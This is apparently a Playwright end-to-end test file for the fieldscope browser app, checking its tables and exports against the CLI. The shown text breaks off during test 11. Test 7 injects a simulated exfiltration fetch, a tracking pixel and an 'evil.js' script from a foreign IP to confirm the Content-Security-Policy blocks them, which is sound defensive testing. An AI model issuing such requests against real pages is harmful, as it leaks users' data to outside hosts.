// End-to-end tests of the browser app in headless Chromium, used the way a
// person uses it: load the page, drop or pick files, change a setting, open a
// document, download exports. Every number the page shows is checked against
// the command-line tool run on the same files (the same core, natively).
//
// Run (after `trunk build` and `cargo build --bin fieldscope`; `bash .ci/test` does both):
//   node --test tests/browser/
// FIELDSCOPE_DIST=DIR serves another build of the app instead of dist/.
//
// Needs the npm package playwright-core in .tools/ (npm install --prefix
// .tools playwright-core@1) and the system Chromium at /usr/bin/chromium
// (override with CHROMIUM=/path). Never downloads a browser.
// Screenshots go to tests/browser/screenshots/.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { DIST } from './server.mjs';
import {
  BUILT_IN_ARGS, assertClose, download, dropFiles, holdBack, openApp as openPage, readTable, startApp, startThen, stopApp, waitForLoaded,
  writeBuiltIn,
} from './harness.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = resolve(HERE, '../..');
const EXAMPLE = join(ROOT, 'tests/data/example');
const SHOTS = join(HERE, 'screenshots');
const CLI = join(ROOT, 'target/debug/fieldscope');
const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';


/** The four example files a person would drop. */
const EXAMPLE_FILES = ['truth.jsonl', 'careful.jsonl', 'eager.json', 'schema.json'];
const EXAMPLE_ROLES = {
  'truth.jsonl': 'truth',
  'careful.jsonl': 'predictions',
  'eager.json': 'predictions',
  'schema.json': 'schema',
};
/** The same inputs on the command line (run in tests/data/example). */
const EXAMPLE_ARGS = ['--truth', 'truth.jsonl', '--pred', 'careful.jsonl', '--pred', 'eager.json', '--schema', 'schema.json'];

let server;
let browser;
let tmp;

before(async () => {
  ({ server, browser, tmp } = await startApp('fieldscope-e2e-'));
});

after(() => stopApp({ server, browser, tmp }));

// ---------------------------------------------------------------- helpers

/** The CLI's JSON report for `args` (run in `cwd`, so file names match). */
function cliJson(args, cwd = EXAMPLE) {
  const out = execFileSync(CLI, ['eval', ...args, '--format', 'json'], { cwd, encoding: 'utf8' });
  return JSON.parse(out);
}

function cliText(args, format, cwd = EXAMPLE) {
  return execFileSync(CLI, ['eval', ...args, '--format', format], { cwd, encoding: 'utf8' });
}

/**
 * A fresh browser context and page with the app rendered (harness.mjs).
 * Uncaught page errors (a Rust panic in wasm shows up as one) are collected
 * for `assertNoErrors`.
 */
function openApp(t, options) {
  return openPage(t, { browser, server }, options);
}

async function bytesOf(name, dir = EXAMPLE) {
  return { name, b64: (await readFile(join(dir, name))).toString('base64') };
}

/** Clears the loaded files and waits for the empty state. */
/** `fieldscope synth` invoices × 3 models + schema in a directory of `tmp`: the directory and the five files' paths. */
function synthFiles(name, documents, seed) {
  const dir = join(tmp, name);
  execFileSync(CLI, ['synth', '--documents', String(documents), '--seed', String(seed), '--out', dir]);
  const names = ['truth.jsonl', 'good.jsonl', 'conservative.jsonl', 'aggressive.jsonl', 'invoice.schema.json'];
  return { dir, paths: names.map((n) => join(dir, n)) };
}

async function clearFiles(page) {
  await page.click('[data-testid=clear-files]');
  await page.waitForSelector('[data-testid=no-report]');
  assert.equal(await page.locator('[data-testid=file-entry]').count(), 0);
}

/** The loaded files as { name: { role, status, error } }. */
async function fileEntries(page) {
  const list = await page.$$eval('[data-testid=file-entry]', (els) =>
    els.map((el) => ({
      name: el.querySelector('.file-name')?.textContent ?? '',
      role: el.dataset.role,
      status: el.dataset.status,
      error: el.querySelector('[data-testid=file-error]')?.textContent ?? null,
    })),
  );
  return Object.fromEntries(list.map(({ name, ...rest }) => [name, rest]));
}

/** What the model table must show for a CLI report under an average. */
function expectedModelTable(report, average) {
  return report.models.map((m) => ({
    model: m.name,
    values: {
      m_total: m.m_total,
      pred_count: m.pred_count,
      truth_count: m.truth_count,
      precision: m[average].precision,
      recall: m[average].recall,
      f1: m[average].f1,
      cost: m.cost,
    },
  }));
}

/** What the paradox table must show for a CLI report. */
function expectedParadoxTable(report) {
  return report.models.map((m) => ({
    model: m.name,
    values: {
      precision: m.micro.precision,
      recall: m.micro.recall,
      f1: m.micro.f1,
      accuracy: m.micro.accuracy,
      hallucination_rate: m.hallucination_rate,
      abstention_rate: m.abstention_rate,
    },
  }));
}

/**
 * The bootstrap intervals a table shows: per model row, per cell with
 * `data-low`, { value, low, high, text } (text: the cell's visible text).
 */
async function readIntervals(page, testid) {
  const rows = await page.$$eval(`[data-testid=${testid}] tbody tr[data-model]`, (trs) =>
    trs.map((tr) => ({
      model: tr.dataset.model,
      cells: Object.fromEntries(
        [...tr.querySelectorAll('td[data-low]')].map((td) => [
          td.dataset.metric,
          { value: td.dataset.value, low: td.dataset.low, high: td.dataset.high, text: td.textContent.trim() },
        ]),
      ),
    })),
  );
  for (const r of rows) {
    for (const c of Object.values(r.cells)) for (const k of ['value', 'low', 'high']) c[k] = Number(c[k]);
  }
  return rows;
}

/**
 * What a table's interval cells must hold for the CLI's `bootstrap` key:
 * `metrics` maps the table's data-metric to the bootstrap's score name.
 */
function expectedIntervals(boot, models, metrics) {
  return models.map((name) => {
    const m = boot.models.find((x) => x.name === name);
    const cells = {};
    for (const [cell, metric] of Object.entries(metrics)) {
      const [a, b] = metric.includes('.') ? metric.split('.') : [metric, null];
      const iv = b ? m[a]?.[b] : m[a];
      if (iv) cells[cell] = { value: iv.estimate, low: iv.low, high: iv.high };
    }
    return { model: name, cells };
  });
}

/** Checks each interval cell's text: the estimate, ± half-width, † when significantly below the best. */
function assertPlusMinus(rows, boot, metricOf) {
  for (const r of rows) {
    for (const [cell, c] of Object.entries(r.cells)) {
      const half = ((c.high - c.low) / 2).toFixed(4);
      assert.ok(c.text.startsWith(`${c.value.toFixed(4)} ± ${half}`), `${r.model} ${cell}: ${c.text}`);
      const metric = metricOf(cell);
      const estimates = boot.models.map((m) => [m.name, metric.split('.').reduce((o, k) => o?.[k], m)?.estimate]);
      const [bestName, best] = estimates.filter((e) => e[1] !== undefined).reduce((x, y) => (y[1] >= x[1] ? y : x));
      const own = estimates.find((e) => e[0] === r.model)[1];
      const t = boot.paired.find(
        (p) => p.metric === metric && ((p.a === r.model && p.b === bestName) || (p.a === bestName && p.b === r.model)),
      );
      const below = bestName !== r.model && own !== best && t !== undefined && t.significant;
      assert.equal(c.text.endsWith('†'), below, `${r.model} ${cell} (${metric}): ${c.text}`);
    }
  }
}

/** Checks the model table (macro over documents, then micro) and the paradox table against a CLI report. */
async function assertTablesMatch(page, report, what) {
  assert.equal(await page.getAttribute('[data-testid=model-table]', 'data-average'), 'macro_documents');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_documents'), `${what}: model table (macro over documents)`);
  assertClose(await readTable(page, 'paradox-table'), expectedParadoxTable(report), `${what}: paradox table`);
  await page.click('[data-testid=average-micro]');
  await page.waitForSelector('[data-testid=model-table][data-average=micro]');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'micro'), `${what}: model table (micro)`);
  await page.click('[data-testid=average-macro_fields]');
  await page.waitForSelector('[data-testid=model-table][data-average=macro_fields]');
  assertClose(await readTable(page, 'model-table'), expectedModelTable(report, 'macro_fields'), `${what}: model table (macro over fields)`);
  await page.click('[data-testid=average-macro_documents]');
  await page.waitForSelector('[data-testid=model-table][data-average=macro_documents]');
}

/** Loads the four example files by dropping them; checks roles and status. */
async function dropExample(page) {
  await clearFiles(page);
  const { highlighted } = await dropFiles(page, await Promise.all(EXAMPLE_FILES.map((n) => bytesOf(n))));
  await waitForLoaded(page, 4, ['careful', 'eager']);
  return { highlighted };
}

function assertExampleEntries(entries) {
  assert.deepEqual(Object.keys(entries).sort(), [...EXAMPLE_FILES].sort());
  for (const [name, role] of Object.entries(EXAMPLE_ROLES)) {
    assert.equal(entries[name].role, role, `role of ${name}`);
    assert.equal(entries[name].status, 'ok', `status of ${name}: ${entries[name].error}`);
  }
}

// ------------------------------------------------------------------ tests

test('1. the built-in example renders on load', async (t) => {
  const { page, assertNoErrors } = await openApp(t);

  const summary = (await page.textContent('[data-testid=summary]')).trim();
  assert.match(summary, /^50 documents · 3 models · preset standard\b/);

  const models = (await readTable(page, 'model-table')).map((r) => r.model);
  assert.deepEqual(models, ['good', 'conservative', 'aggressive']);
  for (const row of await readTable(page, 'model-table')) {
    assert.deepEqual(Object.keys(row.values), ['m_total', 'pred_count', 'truth_count', 'precision', 'recall', 'f1', 'cost']);
    for (const k of ['precision', 'recall', 'f1']) assert.ok(row.values[k] >= 0 && row.values[k] <= 1, `${row.model} ${k}`);
    assert.ok(row.values.truth_count > 0);
  }

  const paradoxHeads = await page.$$eval('[data-testid=paradox-table] thead th', (ths) => ths.map((th) => th.textContent.trim()));
  assert.deepEqual(paradoxHeads, ['Model', 'Precision', 'Recall', 'F1', 'Accuracy', 'Hallucination rate', 'Abstention rate']);
  const paradox = await readTable(page, 'paradox-table');
  assert.deepEqual(paradox.map((r) => r.model), ['good', 'conservative', 'aggressive']);
  for (const r of paradox) assert.equal(Object.keys(r.values).length, 6, `paradox row ${r.model}`);
  // The example shows M0's accuracy paradox, and the page explains it.
  const [, careful, eager] = paradox;
  assert.ok(careful.values.accuracy > eager.values.accuracy && careful.values.f1 < eager.values.f1, 'the example: accuracy and F1 disagree');
  const explanation = await page.textContent('[data-testid=paradox-explanation]');
  assert.match(explanation, /^Accuracy and F1 rank the other models differently\. Accuracy counts true negatives/);
  assert.match(explanation, /conservative: \d+(\.\d+)? % of its outcomes are true negatives/);
  // The page's two tables agree with each other: micro view = paradox table.
  await page.click('[data-testid=average-micro]');
  await page.waitForSelector('[data-testid=model-table][data-average=micro]');
  for (const [i, r] of (await readTable(page, 'model-table')).entries()) {
    for (const k of ['precision', 'recall', 'f1']) assert.equal(r.values[k], paradox[i].values[k], `${r.model} micro ${k}`);
  }
  await page.click('[data-testid=average-macro_documents]');

  const charts = await page.$$eval('[data-testid=charts] figure[data-testid^=chart-]', (figs) =>
    figs.map((f) => ({ id: f.dataset.testid, svg: !!f.querySelector('svg'), caption: f.querySelector('figcaption')?.textContent ?? '' })),
  );
  assert.ok(charts.length >= 5 && charts.length <= 6, `5–6 charts, got ${charts.length}: ${charts.map((c) => c.id)}`);
  for (const c of charts) {
    assert.ok(c.svg, `${c.id} has an <svg>`);
    assert.ok(c.caption.trim().length > 0, `${c.id} has a caption`);
  }
  assert.ok(charts.some((c) => c.id === 'chart-metric_bars'));

  const fields = await page.$$eval('[data-testid=field-table] tbody tr[data-field]', (trs) => trs.map((tr) => tr.dataset.field));
  assert.ok(fields.length >= 10, `field table rows: ${fields}`);
  for (const f of ['invoice_number', 'total', 'vendor.name', 'items[].amount']) assert.ok(fields.includes(f), `field ${f} listed`);

  const browserCount = await page.textContent('[data-testid=document-browser] .count');
  assert.equal(browserCount.trim(), '50 documents');
  const docs = page.locator('[data-testid=document-browser] tbody tr[data-doc]');
  assert.equal(await docs.count(), 25, 'one page of 25 documents');
  assert.equal(await page.locator('[data-testid=document-detail]').count(), 0);
  const firstId = await docs.first().getAttribute('data-doc');

  await page.screenshot({ path: join(SHOTS, 'example.png'), fullPage: true });

  await docs.first().locator('button').click();
  const detail = page.locator('[data-testid=document-detail]');
  await detail.waitFor();
  assert.equal((await detail.locator('h3').textContent()).trim(), `Document ${firstId}`);
  const detailHeads = await detail.locator('thead th').allTextContents();
  assert.deepEqual(detailHeads, ['Field', 'Truth', 'good', 'conservative', 'aggressive']);
  assert.ok((await detail.locator('tbody tr').count()) >= 10, 'the detail lists the fields');
  await detail.scrollIntoViewIfNeeded();
  await page.locator('[data-testid=document-browser]').screenshot({ path: join(SHOTS, 'documents.png') });
  assertNoErrors();
});

test('2. dropping files on the page evaluates them exactly as the CLI does', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  const { highlighted } = await dropExample(page);
  assert.ok(highlighted, 'the drop zone is highlighted while dragging');
  assert.equal(await page.$eval('[data-testid=drop-zone]', (el) => el.classList.contains('dragging')), false, 'highlight removed after the drop');
  assertExampleEntries(await fileEntries(page));
  assert.deepEqual(
    await page.$$eval('[data-testid=file-entry][data-role=predictions] [data-testid=model-name]', (els) => els.map((e) => e.value)),
    ['careful', 'eager'],
  );
  const summary = (await page.textContent('[data-testid=summary]')).trim();
  assert.match(summary, /^3 documents · 2 models · preset standard\b/);

  const report = cliJson(EXAMPLE_ARGS);
  await assertTablesMatch(page, report, 'dropped files');
  assertNoErrors();
});

test('3. choosing files with the file input evaluates them exactly as the CLI does', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await clearFiles(page);
  await page.setInputFiles('[data-testid=file-input]', EXAMPLE_FILES.map((n) => join(EXAMPLE, n)));
  await waitForLoaded(page, 4, ['careful', 'eager']);
  assertExampleEntries(await fileEntries(page));

  const report = cliJson(EXAMPLE_ARGS);
  await assertTablesMatch(page, report, 'picked files');

  // A renamed model and a typed cost change the table as --pred NAME= and --cost do.
  const careful = page.locator('[data-testid=file-entry][data-role=predictions]').first();
  await careful.locator('[data-testid=model-name]').fill('cautious');
  await careful.locator('[data-testid=model-name]').press('Enter');
  await careful.locator('[data-testid=model-cost]').fill('1.25');
  await careful.locator('[data-testid=model-cost]').press('Tab');
  await page.waitForSelector('[data-testid=model-table] tr[data-model=cautious] td[data-metric=cost][data-value="1.25"]');
  const renamed = cliJson(['--truth', 'truth.jsonl', '--pred', 'cautious=careful.jsonl', '--pred', 'eager.json', '--schema', 'schema.json', '--cost', 'cautious=1.25']);
  assertClose(await readTable(page, 'model-table'), expectedModelTable(renamed, 'macro_documents'), 'renamed model');
  assertNoErrors();
});

test('4. changing the preset changes the numbers as the CLI would', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await dropExample(page);
  const standard = cliJson(EXAMPLE_ARGS);
  await assertTablesMatch(page, standard, 'preset standard');
  const before = await readTable(page, 'model-table');

  assert.deepEqual(
    await page.$$eval('[data-testid=preset-select] option', (os) => os.map((o) => o.value)),
    ['standard', 'exact', 'not-found', 'invoice-cer'],
  );
  for (const preset of ['exact', 'invoice-cer']) {
    await page.selectOption('[data-testid=preset-select]', preset);
    await page.waitForFunction(
      (p) => document.querySelector('[data-testid=summary]')?.textContent.includes(`preset ${p} `),
      preset,
    );
    assert.equal(await page.$eval('[data-testid=preset-select]', (s) => s.value), preset);
    const report = cliJson([...EXAMPLE_ARGS, '--preset', preset]);
    assert.equal(report.config.preset, preset);
    assert.notDeepEqual(await readTable(page, 'model-table'), before, `preset ${preset} changes the numbers`);
    await assertTablesMatch(page, report, `preset ${preset}`);
    // The setting (never the data) is in the URL.
    const hash = decodeURIComponent(new URL(page.url()).hash);
    assert.equal(hash, `#settings={"preset":"${preset}"}`);
    if (preset === 'exact') {
      // The report's top beside the Rules panel (the sidebar scrolls on its own).
      await page.evaluate(() => {
        window.scrollTo(0, 0);
        const sidebar = document.querySelector('.sidebar');
        const rules = document.querySelector('.panel.settings');
        if (sidebar && rules) sidebar.scrollTop = rules.offsetTop - sidebar.offsetTop;
      });
      await page.screenshot({ path: join(SHOTS, 'settings.png') });
    }
  }
  // The string-match choice follows the preset (invoice-cer compares by CER).
  assert.match(await page.textContent('[data-testid=summary]'), /strings compared by cer/);

  // A reload keeps the settings from the URL (the data is gone: the example is back).
  await page.reload();
  await page.waitForSelector('[data-testid=model-table] tr[data-model]');
  assert.equal(await page.$eval('[data-testid=preset-select]', (s) => s.value), 'invoice-cer');
  assert.match(await page.textContent('[data-testid=summary]'), /^50 documents · 3 models · preset invoice-cer /);
  assertNoErrors();
});

test('5. a broken file shows its error and the other files still evaluate', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  const broken = '{"id": "inv-001"}\n{"id": "inv-002", "total": }\n';
  writeFileSync(join(tmp, 'broken.jsonl'), broken);
  // The CLI's message for the same file, to compare with the page's.
  const cli = spawnSync(CLI, ['eval', '--truth', join(EXAMPLE, 'truth.jsonl'), '--pred', 'broken.jsonl'], { cwd: tmp, encoding: 'utf8' });
  assert.equal(cli.status, 2, 'the CLI exits 2 on the broken file');
  const cliMessage = cli.stderr.trim().replace(/^error: /, '');
  assert.match(cliMessage, /^broken\.jsonl:2:28: /);

  await clearFiles(page);
  await dropFiles(page, [await bytesOf('truth.jsonl'), await bytesOf('careful.jsonl'), await bytesOf('broken.jsonl', tmp)]);
  await waitForLoaded(page, 3, ['careful']);
  const entries = await fileEntries(page);
  assert.equal(entries['broken.jsonl'].status, 'error');
  assert.equal(entries['broken.jsonl'].role, 'predictions');
  assert.ok(entries['broken.jsonl'].error.includes('broken.jsonl:2:28'), `error text: ${entries['broken.jsonl'].error}`);
  assert.equal(entries['broken.jsonl'].error.trim(), cliMessage, 'the page says what the CLI says');
  assert.equal(entries['truth.jsonl'].status, 'ok');
  assert.equal(entries['careful.jsonl'].status, 'ok');
  assert.equal(await page.locator('[data-testid=file-entry][data-status=ok] [data-testid=file-error]').count(), 0);

  const report = cliJson(['--truth', 'truth.jsonl', '--pred', 'careful.jsonl']);
  await assertTablesMatch(page, report, 'with a broken file');
  await page.screenshot({ path: join(SHOTS, 'error.png') });
  assertNoErrors();
});

test('6. exports download and are well-formed', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await dropExample(page);
  const report = cliJson(EXAMPLE_ARGS);

  const json = await download(page, 'export-json');
  assert.equal(json.name, 'fieldscope-report.json');
  const exported = JSON.parse(json.text);
  assert.ok(exported.models.every((m) => Array.isArray(m.document_details)), 'the app includes document details');
  for (const m of exported.models) delete m.document_details;
  assertClose(exported, report, 'exported JSON');

  const md = await download(page, 'export-markdown');
  assert.equal(md.name, 'fieldscope-report.md');
  assert.ok(md.text.includes('| Model | M_total |'), md.text.slice(0, 300));
  assert.equal(md.text, cliText(EXAMPLE_ARGS, 'markdown'), 'Markdown export = CLI --format markdown');

  const tex = await download(page, 'export-latex');
  assert.equal(tex.name, 'fieldscope-report.tex');
  assert.ok(tex.text.includes('\\toprule') && tex.text.includes('\\begin{tabular}'), tex.text.slice(0, 300));
  assert.equal(tex.text, cliText(EXAMPLE_ARGS, 'latex'), 'LaTeX export = CLI --format latex');

  const csv = await download(page, 'export-csv');
  assert.equal(csv.name, 'fieldscope-report.csv');
  assert.ok(csv.text.startsWith('model,field,exact'), csv.text.slice(0, 200));
  assert.equal(csv.text, cliText(EXAMPLE_ARGS, 'csv'), 'CSV export = CLI --format csv');

  const html = await download(page, 'export-html');
  assert.equal(html.name, 'fieldscope-report.html');
  assert.ok(!/<script/i.test(html.text), 'no <script in the HTML report');
  assert.ok(!/<[^>]*\son[a-z]+\s*=/i.test(html.text), 'no event handler attributes in the HTML report');
  assert.ok(!/(src|href)\s*=\s*["']?\s*(https?:)?\/\//i.test(html.text), 'nothing loaded from elsewhere');
  assert.ok(html.text.includes('<svg'), 'the HTML report has the charts');
  // It opens as a page that shows the models.
  const viewer = await page.context().newPage();
  await viewer.goto('file://' + html.path);
  const htmlText = await viewer.textContent('body');
  assert.ok(htmlText.includes('careful') && htmlText.includes('eager'));
  await viewer.close();

  const svg = await download(page, 'svg-metric_bars');
  assert.equal(svg.name, 'fieldscope-metric_bars.svg');
  assert.ok(/^\s*(<svg|<\?xml)/.test(svg.text), svg.text.slice(0, 100));
  assert.ok(svg.text.trimEnd().endsWith('</svg>'));
  const parsed = await page.evaluate((text) => {
    const doc = new DOMParser().parseFromString(text, 'image/svg+xml');
    return { root: doc.documentElement.nodeName, errors: doc.getElementsByTagName('parsererror').length };
  }, svg.text);
  assert.deepEqual(parsed, { root: 'svg', errors: 0 }, 'the SVG parses as XML');

  // The bundle re-opens on a fresh page to the same tables.
  const modelTable = await readTable(page, 'model-table');
  const paradoxTable = await readTable(page, 'paradox-table');
  const bundle = await download(page, 'export-bundle');
  assert.equal(bundle.name, 'fieldscope-bundle.json');
  assert.equal(JSON.parse(bundle.text).fieldscope_bundle, 1);
  const fresh = await openApp(t);
  await dropFiles(fresh.page, [{ name: bundle.name, b64: Buffer.from(bundle.text).toString('base64') }]);
  await waitForLoaded(fresh.page, 4, ['careful', 'eager']);
  assertExampleEntries(await fileEntries(fresh.page));
  assert.deepEqual(await readTable(fresh.page, 'model-table'), modelTable);
  assert.deepEqual(await readTable(fresh.page, 'paradox-table'), paradoxTable);
  fresh.assertNoErrors();
  assertNoErrors();
});

test('7. nothing leaves the machine', async (t) => {
  const context = await browser.newContext({ acceptDownloads: true });
  t.after(() => context.close());
  const seen = [];
  const failed = new Map();
  const answered = [];
  context.on('request', (r) => seen.push(r.url()));
  context.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText));
  context.on('response', (r) => answered.push(r.url()));
  const sockets = [];
  const page = await context.newPage();
  page.on('websocket', (ws) => sockets.push(ws.url()));
  await page.goto(server.url + '/');
  await page.waitForSelector('[data-testid=model-table] tr[data-model]');
  await dropExample(page);
  await page.selectOption('[data-testid=preset-select]', 'exact');
  await page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('preset exact'));
  for (const id of ['export-json', 'export-markdown', 'export-latex', 'export-csv', 'export-html', 'export-bundle', 'svg-metric_bars', 'png-metric_bars']) {
    await download(page, id);
  }
  await page.click('[data-testid=load-example]');
  await waitForLoaded(page, 6, ['good', 'conservative', 'aggressive']);

  const origin = new URL(server.url).origin;
  assert.ok(seen.some((u) => u.endsWith('.wasm')), 'requests are recorded');
  const foreign = seen.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
  assert.deepEqual(foreign, [], 'requests to other origins');
  assert.deepEqual(sockets, [], 'websockets');

  // The page's Content-Security-Policy forbids connections elsewhere: a
  // fetch, an image and a script from another origin are all refused by the
  // browser itself (and reported as violations), not merely never made.
  const csp = await page.getAttribute('meta[http-equiv=Content-Security-Policy]', 'content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'(;|$)/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/=]+'(;|$)/);
  const blocked = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const fetched = await fetch('http://198.51.100.7/collect', { method: 'POST', body: 'data' }).then(
      () => 'sent',
      () => 'refused',
    );
    const img = document.createElement('img');
    img.src = 'http://198.51.100.7/pixel.png';
    document.body.append(img);
    const script = document.createElement('script');
    script.src = 'http://198.51.100.7/evil.js';
    document.body.append(script);
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true;';
    document.body.append(inline);
    await new Promise((r) => setTimeout(r, 300));
    return { fetched, violations, inlineRan: window.__inlineRan === true };
  });
  assert.equal(blocked.fetched, 'refused');
  assert.equal(blocked.inlineRan, false, 'an injected inline script does not run');
  for (const directive of ['connect-src http://198.51.100.7/collect', 'img-src http://198.51.100.7/pixel.png', 'script-src-elem http://198.51.100.7/evil.js']) {
    assert.ok(blocked.violations.includes(directive), `${directive} refused: ${JSON.stringify(blocked.violations)}`);
  }
  // Chromium reports the refused image and script as requests that failed
  // with the reason "csp": none of them was answered.
  const foreignAfter = seen.filter((u) => !u.startsWith('data:') && !u.startsWith('blob:') && new URL(u).origin !== origin);
  for (const url of foreignAfter) {
    assert.equal(failed.get(url), 'csp', `${url} was blocked by the policy`);
  }
  assert.deepEqual(answered.filter((u) => new URL(u).origin !== origin), [], 'no response from another origin');
});

test('8. the settings and the average switch work from the keyboard', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  // Labelled: found by role and accessible name.
  assert.equal(await page.getByRole('combobox', { name: 'Preset', exact: true }).getAttribute('data-testid'), 'preset-select');
  assert.equal(await page.getByRole('radiogroup', { name: 'Average' }).count(), 1);
  for (const [name, id] of [['Macro over documents', 'average-macro_documents'], ['Micro', 'average-micro'], ['Macro over fields', 'average-macro_fields']]) {
    assert.equal(await page.getByRole('radio', { name, exact: true }).getAttribute('data-testid'), id);
  }
  assert.equal(await page.getAttribute('[data-testid=average-macro_documents]', 'aria-checked'), 'true');

  // Tab from the top of the page until every control was focused.
  const wanted = ['preset-select', 'average-macro_documents', 'average-micro', 'average-macro_fields'];
  const order = [];
  let focusRing = null;
  for (let i = 0; i < 200 && !wanted.every((w) => order.includes(w)); i++) {
    await page.keyboard.press('Tab');
    const id = await page.evaluate(() => document.activeElement?.getAttribute('data-testid') ?? document.activeElement?.tagName);
    order.push(id);
    if (id === 'average-micro') {
      // The focus is visible…
      focusRing = await page.$eval('[data-testid=average-micro]', (el) => {
        const s = getComputedStyle(el);
        return { style: s.outlineStyle, width: parseFloat(s.outlineWidth), shadow: s.boxShadow };
      });
      // …and it works from the keyboard.
      await page.keyboard.press('Enter');
      await page.waitForSelector('[data-testid=model-table][data-average=micro]');
      assert.equal(await page.getAttribute('[data-testid=average-micro]', 'aria-checked'), 'true');
    }
    if (id === 'preset-select') {
      // Typing an option's first letter on the focused select chooses it.
      await page.keyboard.press('e');
      await page.waitForFunction(() => document.querySelector('[data-testid=summary]')?.textContent.includes('preset exact'));
    }
  }
  for (const w of wanted) assert.ok(order.includes(w), `Tab reaches ${w}; focus order: ${order.join(' → ')}`);
  assert.ok(order.indexOf('preset-select') < order.indexOf('average-macro_documents'), 'settings come before the report');
  const averages = wanted.slice(1).map((w) => order.indexOf(w));
  assert.deepEqual([...averages].sort((a, b) => a - b), averages, 'the average buttons in visual order');
  assert.ok(
    (focusRing.style !== 'none' && focusRing.width > 0) || focusRing.shadow !== 'none',
    `a visible focus ring: ${JSON.stringify(focusRing)}`,
  );
  assertNoErrors();
});

test('9. the document browser pages through every document and filters them', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  const browserCard = page.locator('[data-testid=document-browser]');
  const rows = browserCard.locator('tbody tr[data-doc]');
  const pager = browserCard.locator('.pager');
  const previous = pager.locator('button').first();
  const next = pager.locator('button').last();
  assert.equal((await pager.locator('span').textContent()).trim(), 'page 1 of 2');
  assert.equal((await previous.textContent()).trim(), '‹ Previous');
  assert.equal((await next.textContent()).trim(), 'Next ›', 'the Next button says only "Next ›"');
  assert.ok(await previous.isDisabled(), 'no previous page on page 1');
  assert.ok(await next.isEnabled(), 'Next is enabled on page 1 of 2');
  const firstPage = await rows.evaluateAll((trs) => trs.map((tr) => tr.dataset.doc));
  assert.equal(firstPage.length, 25);
  await next.click();
  await page.waitForFunction(() => document.querySelector('[data-testid=document-browser] .pager span')?.textContent.includes('page 2 of 2'));
  const secondPage = await rows.evaluateAll((trs) => trs.map((tr) => tr.dataset.doc));
  assert.equal(secondPage.length, 25);
  assert.equal(new Set([...firstPage, ...secondPage]).size, 50, 'the two pages hold all 50 documents');
  assert.ok(await next.isDisabled(), 'no next page on the last page');
  await previous.click();
  assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.dataset.doc)), firstPage);

  // Filters: the aggressive model's documents with an incorrect value, as
  // the report's own document details count them (it hallucinates in
  // every document, so "spurious" would keep all 50).
  const json = JSON.parse((await download(page, 'export-json')).text);
  const aggressive = json.models.find((m) => m.name === 'aggressive');
  const expected = aggressive.document_details.filter((d) => d.fields.some((f) => f.outcome === 'incorrect')).map((d) => d.id);
  assert.ok(expected.length > 0 && expected.length < 50);
  await page.selectOption('[data-testid=doc-model]', { label: 'aggressive' });
  await page.selectOption('[data-testid=doc-outcome]', 'incorrect');
  await page.waitForFunction(
    (n) => document.querySelector('[data-testid=document-browser] .count')?.textContent.trim() === `${n} documents`,
    expected.length,
  );
  assert.deepEqual(await rows.evaluateAll((trs) => trs.map((tr) => tr.dataset.doc)), expected.slice(0, 25));
  assertNoErrors();
});

test('10. the document detail shows what each model predicted, hallucinated line items included', async (t) => {
  const { page, assertNoErrors } = await openApp(t);
  await dropExample(page);
  // eager.json invents a third line item ("Shipping") on inv-001.
  const report = cliJson([...EXAMPLE_ARGS, '--details']);
  const eagerDoc = report.models.find((m) => m.name === 'eager').document_details.find((d) => d.id === 'inv-001');
  const invented = eagerDoc.fields.filter((f) => f.outcome === 'spurious' && f.field.startsWith('items[]'));
  assert.deepEqual(invented.map((f) => f.prediction), ['Shipping', 1, 0], 'the CLI sees the invented item');

  await page.locator('[data-testid=document-browser] tbody tr[data-doc="inv-001"] button').click();
  const detail = page.locator('[data-testid=document-detail]');
  await detail.waitFor();
  assert.deepEqual(await detail.locator('thead th').allTextContents(), ['Field', 'Truth', 'careful', 'eager']);
  // Every spurious value the report lists for eager is shown as spurious.
  const spuriousCells = await detail.locator('tbody td.outcome-spurious').allTextContents();
  const expectedSpurious = eagerDoc.fields.filter((f) => f.outcome === 'spurious');
  assert.equal(spuriousCells.length, expectedSpurious.length, `spurious cells shown: ${JSON.stringify(spuriousCells)}`);
  assert.ok(spuriousCells.some((c) => c.includes('Shipping')), 'the invented "Shipping" item is shown');
  assertNoErrors();
});

test('11. a large dataset: a status line while it loads, the report equal to the CLI, document details on demand', async (t) => {
  // 2,500 synthetic invoices × 3 models: beyond the 2,000 documents up to
  // which the report carries every document's details.
  const { dir, paths } = synthFiles('large', 2500, 11);
  const { page, assertNoErrors } = await openApp(t);
  await clearFiles(page);
  // Record every status line the page shows while it works.
  await page.evaluate(() => {
    window.__statuses = [];
    new MutationObserver(() => {
      const busy = document.querySelector('[data-testid=busy]');
      if (busy && window.__statuses.at(-1) !== busy.textContent) window.__statuses.push(busy.textContent);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  await page.setInputFiles('[data-testid=file-input]', paths);
  await waitForLoaded(page, 5, ['good', 'conservative', 'aggressive']);
  await page.waitForSelector('[data-testid=busy]', { state: 'detached' });
  const statuses = await page.evaluate(() => window.__statuses);
